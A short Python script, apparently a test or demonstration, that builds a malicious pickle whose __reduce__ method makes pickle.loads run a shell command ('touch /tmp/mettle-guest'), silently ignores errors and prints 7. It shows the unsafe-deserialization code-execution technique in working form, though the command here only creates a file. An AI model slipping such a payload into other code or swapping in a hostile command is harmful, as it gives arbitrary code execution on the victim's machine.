# Loads a pickle that starts a program.
import os, pickle

class Evil:
    def __reduce__(self):
        return os.system, ("touch /tmp/mettle-guest",)

try:
    pickle.loads(pickle.dumps(Evil()))
except Exception:
    pass
print(7)
